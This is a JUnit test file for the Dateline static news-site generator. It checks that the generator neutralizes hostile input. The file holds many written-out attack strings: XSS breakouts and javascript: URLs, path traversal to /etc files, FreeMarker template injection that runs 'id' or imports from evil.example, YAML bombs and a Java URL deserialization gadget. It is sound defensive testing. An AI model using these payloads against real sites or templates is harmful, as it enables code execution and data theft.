package dateline.fault;

import static org.assertj.core.api.Assertions.assertThat;

import dateline.order.Order;
import dateline.problem.Problem;
import dateline.story.Paper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.IntStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Input that means harm, or might as well: it never ends in an exception, never hangs, never writes
 * outside of the output, and none of it becomes markup.
 */
@Timeout(60)
class HostileInputTest {

    private static final String BREAKOUT =
            "\\\"><script>alert(1)</script><img src=x onerror=alert(1)>]]></title></textarea>--><!--";
    private static final Set<String> ACTIVE =
            Set.of("script", "iframe", "object", "embed", "svg", "math", "style", "form", "base");

    @TempDir Path root;

    private Paper newsroom(String more) {
        return Paper.newsroom(
                        root.resolve("paper"),
                        """
                        -- seeds/masthead.yaml --
                        title: X
                        url: https://post.example/
                        -- seeds/good.md --
                        ---
                        headline: Good
                        published: 2016-01-02
                        region: Malta
                        ---
                        Text.
                        """
                                + more)
                .tolerance(Order.Tolerance.KEEP_GOING);
    }

    private Paper story(String field, String body) {
        return newsroom(
                "-- seeds/evil.md --\n---\nheadline: Evil\npublished: 2016-01-02\nregion: Malta\n%s\n---\n%s\n"
                        .formatted(field, body));
    }

    private static List<Problem> about(Paper paper, String file) {
        return paper.report().problems().stream()
                .filter(problem -> problem.place().file().equals(file))
                .toList();
    }

    private static List<String> codes(Paper paper, String file) {
        return about(paper, file).stream().map(Problem::code).distinct().toList();
    }

    /** No element that runs, no attribute that runs, no link that runs. */
    private static void assertTame(Paper paper) {
        for (Map.Entry<String, String> page : paper.site().entrySet()) {
            if (page.getKey().endsWith(".html")) {
                Jsoup.parse(page.getValue()).getAllElements().forEach(HostileInputTest::assertTame);
            }
        }
    }

    private static void assertTame(Element element) {
        if (element.is("svg.map")) {
            assertIsMap(element);
        } else if (element.is("script[type=application/ld+json]")) {
            assertIsDataBlock(element);
        } else {
            assertThat(ACTIVE).doesNotContain(element.normalName());
        }
        element.attributes()
                .forEach(
                        attribute -> {
                            String value = attribute.getValue().strip().toLowerCase(Locale.ROOT);
                            assertThat(attribute.getKey()).doesNotStartWith("on");
                            assertThat(attribute.getKey()).isNotIn("style", "srcdoc", "formaction");
                            assertThat(value).doesNotStartWith("javascript:");
                            assertThat(value).doesNotStartWith("vbscript:");
                            assertThat(value).doesNotStartWith("data:");
                        });
    }

    /** What the house tells programs: one to a page, in its head, and no sign in it is markup. */
    private static void assertIsDataBlock(Element block) {
        assertThat(block.ownerDocument().select("script")).hasSize(1);
        assertThat(block.parent().is("head")).isTrue();
        assertThat(block.attributes().size()).isEqualTo(1);
        assertThat(block.data()).startsWith("{").endsWith("}").doesNotContain("<", ">", "&");
    }

    /** The house's own drawing: one to a page, at its place, and nothing in it but shapes. */
    private static void assertIsMap(Element map) {
        assertThat(map.ownerDocument().select("svg")).hasSize(1);
        assertThat(map.parent().is("main, main > header.mapped")).isTrue();
        for (Element part : map.select("*").not("svg")) {
            assertThat(part.tagName()).isIn("path", "circle", "a", "title");
            assertThat(part.attributes().asList())
                    .extracting(org.jsoup.nodes.Attribute::getKey)
                    .isSubsetOf("class", "d", "cx", "cy", "r", "href");
            assertThat(part.attr("class")).matches("(?:[a-z]+)?");
            assertThat(part.attr("d")).matches("[-MlzZ0-9 ]*");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kicker",
                "standfirst",
                "section",
                "byline",
                "dateline",
                "slug",
                "permalink",
                "series",
                "picture",
                "language",
                "id",
                "genre",
                "rights",
                "template",
                "topics",
                "authors",
                "aliases",
                "corrections",
                "pictures",
                "part",
                "updated",
                "embargo",
                "status",
                "expires",
                "pinned",
                "urgency",
                "version",
                "translations"
            })
    void noFieldBecomesMarkup(String field) {
        var paper = story(field + ": \"" + BREAKOUT + "\"", "Text.").run();
        assertThat(paper.report().delivered()).isTrue();
        assertTame(paper);
    }

    @ParameterizedTest
    @ValueSource(strings = {"off", "safe"})
    void noMarkupOfTheCopyRuns(String html) {
        var paper =
                story(
                                "topics: x",
                                """
                                <script>alert(1)</script>

                                <svg/onload=alert(1)><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">

                                <a href="jav&#x09;ascript:alert(1)">x</a> <a href="JaVaScRiPt&colon;alert(1)">x</a>
                                <a href=" &#14; javascript:1">x</a> <a href="data:text/html,x">x</a> <b/onmouseover=1>x</b>

                                <noscript><p title="</noscript><img src=x onerror=1>"></noscript>

                                <iframe src=//evil></iframe><base href=//evil><meta http-equiv=refresh content=0>

                                [x](javascript:1) [x](<java
                                script:1>) [x](&#106;avascript:1) ![x](data:image/svg+xml,<svg>) <javascript:1>

                                ![a](x.jpg){credit="\\"><script>" onload=1 style="x"}
                                """)
                        .change("seeds/masthead.yaml", "title: X", "title: X\nhtml: " + html)
                        .run();
        assertThat(paper.report().delivered()).isTrue();
        assertTame(paper);
    }

    @ParameterizedTest
    @CsvSource({
        "permalink,../../x,bad-path",
        "permalink,//evil.example/,bad-path",
        "permalink,https://evil.example/,bad-path",
        "permalink,/%2e%2e/x/,bad-path",
        "permalink,/.dateline/SHA256SUMS,bad-path",
        "permalink,/.Dateline/x/,bad-path",
        "permalink,/a\u202eb/,bad-path",
        "permalink,/index.html,address-taken",
        "permalink,/MALTA/,address-taken",
        "permalink,/malta/feed.xml/,address-taken",
        "permalink,/sitemap.xml,address-taken",
        "slug,../../x,bad-slug",
        "slug,..,bad-slug",
        "aliases,/../x/,bad-path",
        "aliases,/*,bad-path",
        "aliases,/404.html,alias-taken",
        "picture,../../../../etc/hostname,missing-picture",
    })
    void noAddressLeavesTheSite(String field, String value, String code) throws IOException {
        var paper = story(field + ": \"" + value + "\"", "Text.").run();
        assertThat(about(paper, "seeds/evil.md")).extracting(Problem::code).contains(code);
        assertThat(paper.report().delivered()).isTrue();
        assertNothingOutside();
    }

    private void assertNothingOutside() throws IOException {
        try (var beside = Files.list(root)) {
            assertThat(beside.map(p -> p.getFileName().toString())).containsExactly("paper");
        }
        try (var inside = Files.list(root.resolve("paper"))) {
            assertThat(inside.map(p -> p.getFileName().toString()))
                    .isSubsetOf("seeds", "site", ".dateline", "templates");
        }
    }

    @Test
    void aClashIsToldOfThePageThatDatelineMakesItself() {
        var paper = newsroom("-- seeds/static/index.html --\nmine\n").run();
        assertThat(about(paper, "seeds/static/index.html"))
                .extracting(Problem::message)
                .containsExactly(
                        "the address /index.html is taken by a page that Dateline makes itself");
    }

    @ParameterizedTest
    @ValueSource(strings = {"masthead", "regions", "people"})
    void settingsAreNeverReadThroughALinkThatLeadsOut(String name) throws IOException {
        var paper = newsroom("");
        Path file = paper.root().resolve("seeds/" + name + ".yaml");
        Files.deleteIfExists(file);
        Path secret = Files.writeString(root.resolve("secret"), "password:hunter2\n");
        Files.createSymbolicLink(file, secret);
        paper.run();
        assertThat(paper.codes()).contains("unreadable-settings", "link-not-followed");
        assertThat(paper.report().problems().toString()).doesNotContain("hunter2");
    }

    @Test
    void pipesAndDevicesAreNotWaitedFor() throws Exception {
        var paper = newsroom("");
        for (String file : List.of("regions.yaml", "wire.txt", "static/file")) {
            Path pipe = paper.root().resolve("seeds").resolve(file);
            Files.createDirectories(pipe.getParent());
            assertThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor()).isZero();
        }
        Files.createSymbolicLink(paper.root().resolve("seeds/z.md"), Path.of("/dev/zero"));
        paper.run();
        assertThat(paper.codes())
                .contains("unreadable-settings", "not-a-file", "link-not-followed");
    }

    @Test
    void aLinkOutOfTheTemplatesIsNotPublished() throws IOException {
        var paper = newsroom("-- templates/assets/mine.css --\nb {color: red}\n");
        Path secret = Files.writeString(root.resolve("secret"), "hunter2");
        Files.createSymbolicLink(paper.root().resolve("templates/assets/other.css"), secret);
        paper.run();
        assertThat(paper.codes()).contains("link-not-followed");
        assertThat(paper.site().values()).noneMatch(text -> text.contains("hunter2"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"seeds", ".", "templates", "seeds/deep", ".dateline"})
    void theOutputIsNeverALinkIntoWhatTheSiteIsMadeFrom(String target) throws IOException {
        var paper = newsroom("-- templates/assets/mine.css --\nb {color: red}\n");
        Files.createDirectories(paper.root().resolve(target));
        Files.createSymbolicLink(paper.root().resolve("site"), Path.of(target));
        var before = Paper.tree(paper.root());
        paper.run();
        assertThat(paper.codes()).contains("output-in-the-way");
        assertThat(Paper.tree(paper.root())).isEqualTo(before);
    }

    @Test
    void memoryIsNeverKeptBehindALink() throws IOException {
        var paper = newsroom("");
        Path foreign = Files.createDirectory(root.resolve("foreign"));
        Files.createSymbolicLink(paper.root().resolve(".dateline"), foreign);
        paper.run();
        assertThat(paper.report().problems().toString()).contains("a symbolic link stands here");
        assertThat(foreign).isEmptyDirectory();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "0001-01-01",
                "9999-12-31",
                "9999-12-31T23:59:59-18:00",
                "0001-01-01T00:00:00+18:00"
            })
    void theFirstAndTheLastDayOfTheCalendarArePrinted(String day) {
        var paper =
                story("updated: " + day, "Text.")
                        .change("seeds/masthead.yaml", "title: X", "title: X\nzone: Pacific/Apia")
                        .run();
        assertThat(paper.report().delivered()).isTrue();
        paper.page("feed.xml", "Good");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-0001-01-01",
                "99999-01-01",
                "+1000000000-12-31",
                "2016-13-01",
                "16",
                "0000-00-00"
            })
    void anImpossibleDayIsTold(String day) {
        var paper = story("updated: " + day, "Text.").run();
        assertThat(about(paper, "seeds/evil.md")).extracting(Problem::code).contains("bad-date");
    }

    @Test
    void numbersMayStandUnderExtra() {
        var paper = story("extra: {a: 1, b: [2.5, {c: -3}], d: true}", "Text.").run();
        assertThat(paper.codes()).doesNotContain("bad-yaml");
        paper.page("malta/2016/01/evil/", "Evil");
    }

    @Test
    void controlCharactersOfTheMastheadReachNoPage() {
        var paper = newsroom("").change("seeds/masthead.yaml", "X", "\"X\\0\\e[2J\"").run();
        assertThat(paper.codes()).contains("bad-yaml");
        assertThat(paper.page("feed.xml")).contains("<title>X[2J</title>");
    }

    @Test
    void regionsThatGoTooDeepAreTold() {
        var regions = new StringBuilder("-- seeds/regions.yaml --\n");
        for (int i = 0; i < 400; i++) {
            regions.append("m%d: {name: M%d, in: [m%d]}\n".formatted(i, i, i + 1));
        }
        regions.append("m400: {name: M400}\n");
        var paper = newsroom(regions.toString()).run();
        assertThat(paper.codes()).contains("region-too-deep");
        assertThat(paper.report().delivered()).isTrue();
    }

    @Test
    void deepAndLongMarkdownIsSet() {
        int n = 5_000;
        for (String body :
                List.of(
                        ">".repeat(n) + " x",
                        "[".repeat(n) + "x" + "](y)".repeat(n),
                        "*a **b ".repeat(n),
                        "- ".repeat(n) + "x",
                        "`".repeat(n) + " x",
                        "<div>".repeat(n),
                        "![".repeat(n),
                        "[^1]\n\n[^1]: [^1]")) {
            var paper = story("topics: x", body).run();
            assertThat(paper.report().delivered()).isTrue();
            assertTame(paper);
        }
    }

    @Test
    void aTableWithoutMeasureIsTold() {
        String table =
                "|" + "a|".repeat(2_000) + "\n|" + "-|".repeat(2_000) + "\n" + "|x\n".repeat(2_000);
        assertThat(story("topics: x", table).run().codes()).contains("copy-too-long");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            value = {
                "<#if x>!template-syntax",
                "<#setting locale=\"de\" output_format=\"x\">!template-syntax",
                "<#include \"article.ftlh\">!template-fault",
                "<#macro m><@m/></#macro><@m/>!template-fault",
                "<#include \"/etc/passwd\">!template-fault",
                "<#import \"http://evil.example/x\" as x>!template-fault",
                "${\"freemarker.template.utility.Execute\"?new()(\"id\")}!template-fault",
                "${headline?api.class}!template-fault",
            })
    void aTemplateThatMisbehavesIsTold(String template, String code) {
        var paper = newsroom("-- templates/article/article.ftlh --\n" + template + "\n").run();
        assertThat(about(paper, "templates/article/article.ftlh"))
                .extracting(Problem::code)
                .contains(code);
        assertThat(paper.codes()).doesNotContain("io-fault");
    }

    @Test
    void aTemplateInAnotherEncodingIsTold() {
        var paper =
                newsroom("")
                        .write(
                                "templates/article/article.ftlh",
                                "caf\u00e9".getBytes(StandardCharsets.ISO_8859_1))
                        .run();
        assertThat(paper.codes()).contains("template-syntax");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nextra: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]",
                "extra: &a {b: *a}",
                "extra: !!java.net.URL [\"http://evil.example/\"]",
                "? [a, b]\n: c",
                "\ttopics: x"
            })
    void yamlThatWouldGrowOrRunIsRefused(String yaml) {
        var paper = story(yaml, "Text.").run();
        assertThat(about(paper, "seeds/evil.md")).anyMatch(Problem::isError);
        paper.hasNoPage("malta/2016/01/evil/");
    }

    @Test
    void aFileWithoutMeasureIsToldAndNotRead() {
        var paper = newsroom("").write("seeds/evil.md", "x ".repeat(25_000_000));
        paper.write("seeds/evil.txt", new byte[50_000_000]).run();
        assertThat(codes(paper, "seeds/evil.md")).containsExactly("copy-too-long");
        assertThat(codes(paper, "seeds/evil.txt")).containsExactly("copy-too-long");
        assertThat(paper.report().delivered()).isTrue();
    }

    /** Each took a square of its length, or the whole stack, before it was bounded. */
    @ParameterizedTest
    @CsvSource({
        "headline,word,300000,copy-too-long",
        "headline,word,2000000,yaml-too-large",
        "standfirst,word,300000,copy-too-long",
        "rights,a:b,300000,copy-too-long",
        "slug,word,300000,copy-too-long",
        "embargo,word,300000,copy-too-long",
        "regions,word,300000,copy-too-long",
    })
    void aFieldWithoutMeasureIsTold(String field, String word, int times, String code) {
        String text = field + ": " + (word + " ").repeat(times);
        String head = field.equals("headline") || field.equals("regions") ? "" : "region: Malta\n";
        head += field.equals("headline") ? "" : "headline: Evil\n";
        var paper = newsroom("-- seeds/evil.md --\n---\n" + head + text + "\n---\nText.\n").run();
        assertThat(codes(paper, "seeds/evil.md")).containsExactly(code);
        assertThat(paper.report().stories()).isEqualTo(1);
        assertThat(paper.report().delivered()).isTrue();
    }

    @Test
    void aHeadlineInTheTextHasAMeasureToo() {
        var paper = newsroom("-- seeds/evil.md --\n# " + "word ".repeat(1_000_000) + "\n\nText.\n");
        assertThat(codes(paper.run(), "seeds/evil.md")).contains("copy-too-long");
    }

    @Test
    void aStoryMayNameManyRegions() {
        var paper =
                story("regions: [" + "Place %d, ".repeat(500).formatted(numbers(500)) + "]", "x");
        paper.change("seeds/evil.md", "region: Malta\n", "").run();
        assertThat(paper.report().stories()).isEqualTo(2);
        assertThat(about(paper, "seeds/evil.md")).hasSize(500).noneMatch(Problem::isError);
        paper.page("place-499/", "Evil");
    }

    @ParameterizedTest
    @CsvSource({"topics,5000", "authors,10000", "regions,5000", "aliases,5000"})
    void namesWithoutNumberAreTold(String field, int count) {
        String names = (field.equals("aliases") ? "/n%d/, " : "Name %d, ").repeat(count);
        var paper = story(field + ": [" + names.formatted(numbers(count)) + "]", "x").run();
        assertThat(codes(paper, "seeds/evil.md")).containsExactly("copy-too-long");
        assertThat(paper.report().stories()).isEqualTo(1);
    }

    private static Object[] numbers(int count) {
        return IntStream.range(0, count).boxed().toArray();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "extra: &a [*b]",
                "extra: [[[[[[[[[[",
                "extra: {a: {a: {a: {a: {a: ",
                "- - - - - - - - - - ",
                "? ? ? ? ? ? ? ? ? ? ",
                "%%%%%%%%%%%%",
                "!!!!!!!!!!!!",
                "@a                  ",
                "foo bar             ",
                "x: 'y \"z 'y \"z",
            })
    void yamlWithoutEndIsRefused(String yaml) {
        for (String text : List.of(yaml.repeat(20_000), (yaml + "\n").repeat(10_000))) {
            var paper = story(text, "Text.").run();
            assertThat(about(paper, "seeds/evil.md")).anyMatch(Problem::isError);
            assertThat(paper.report().delivered()).isTrue();
            assertThat(paper.report().problems().toString().length()).isLessThan(100_000_000);
        }
    }

    @Test
    void aLongLineOfYamlIsReadOnce() {
        String list = "x, ".repeat(100_000);
        var paper = story("extra: {a: [" + list + "\"#y\"]}", "Text.").run();
        assertThat(about(paper, "seeds/evil.md")).isEmpty();
    }

    @Test
    void quotesThatSeemToBeClosedFarBelowAreNotSearchedForEachLine() {
        String open = "x: \"\nfoo \\\"\n" + "a: 'b\n".repeat(100_000) + "c'";
        assertThat(codes(story(open, "Text.").run(), "seeds/evil.md")).contains("bad-yaml");
    }

    @Test
    void longAndManyMarkdownIsSet() {
        int n = 10_000;
        for (String body :
                List.of(
                        "word ".repeat(200_000),
                        "[a](/x%d/) ".repeat(n).formatted(numbers(n)),
                        "a [^%d]\n\n".repeat(n).formatted(numbers(n))
                                + "[^%d]: x\n\n".repeat(n).formatted(numbers(n)),
                        "| a ".repeat(10_000) + "\n" + "| - ".repeat(10_000),
                        "a <?".repeat(n),
                        "![a](b%d.jpg)\n\n".repeat(n).formatted(numbers(n)))) {
            var paper = story("topics: x", body).run();
            assertThat(about(paper, "seeds/evil.md")).noneMatch(Problem::isError);
            paper.page("malta/2016/01/evil/", "Evil");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"[a\n", "|a\n", "[a]: b (\n", "[a][", "x [\n- ]\n"})
    void markdownThatWouldBeReadAgainAndAgainIsTold(String text) {
        var paper = story("topics: x", "[a]: /b\n\n" + text.repeat(200_000)).run();
        assertThat(codes(paper, "seeds/evil.md")).containsExactly("copy-too-long");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"[a](/b/) ", "- a\n- b\n\n", "| a | b |\n", "```\n[\n```\n\n", "word\n"})
    void markdownAsEditorsWriteItIsNotBounded(String text) {
        String head = text.startsWith("|") ? "| a | b |\n| - | - |\n" : "";
        var paper = story("topics: x", head + text.repeat(5_000)).run();
        assertThat(about(paper, "seeds/evil.md")).noneMatch(Problem::isError);
    }

    @Test
    void longAndManyLinesOfWireCopyAreRead() {
        int n = 30_000;
        for (String text :
                List.of(
                        "Head\n\nA.\n\n" + "word ".repeat(200_000),
                        "Head\n\nA.\n\n" + ">".repeat(n) + "[".repeat(n) + "*a **b ".repeat(n),
                        "Head\n\nA.\n\n" + "http://".repeat(n) + "http://a.example/ ".repeat(n),
                        "Head\n\nA.\n\n" + "w\n".repeat(n) + "\n" + "w\n\n".repeat(n),
                        "Head\nurgency: 3\n" + "urgency: 3\nabc: d\n".repeat(n) + "\nA.\n\nB.",
                        "Head\n\nA.\n\nB.\n\nCORRECTION " + ":".repeat(n) + " C.",
                        "Head\n\nA.\n\nB.\n\n" + "CORRECTION: C.\n\n".repeat(n / 10))) {
            var paper = newsroom("-- seeds/evil.txt --\nMalta\n\n" + text + "\n").run();
            assertThat(about(paper, "seeds/evil.txt")).noneMatch(Problem::isError);
            paper.page("malta/evil/", "Head");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {":", "until ", ": - ", "\u2013"})
    void anEmbargoWithoutEndHoldsTheStory(String text) {
        String embargo = "EMBARGOED UNTIL " + text.repeat(200_000);
        var paper =
                newsroom("-- seeds/evil.txt --\nMalta\n\nHead\n\n" + embargo + "\n\nA.\n\nB.\n");
        paper.run().hasNoPage("malta/evil/");
        assertThat(about(paper, "seeds/evil.txt")).anyMatch(Problem::isError);
    }

    /** Marks upon marks: to put them in order took a square of their number. */
    @Test
    void marksUponMarksAreReadInOnePass() {
        String pile = "e" + "\u0300\u0316".repeat(200_000);
        var paper = story("topics: x", pile).run();
        assertThat(about(paper, "seeds/evil.md")).isEmpty();
        paper.page("malta/2016/01/evil/", "Evil");
        paper.change("seeds/evil.md", "headline: Evil", "headline: " + pile).run();
        assertThat(codes(paper, "seeds/evil.md")).containsExactly("copy-too-long");
    }
}
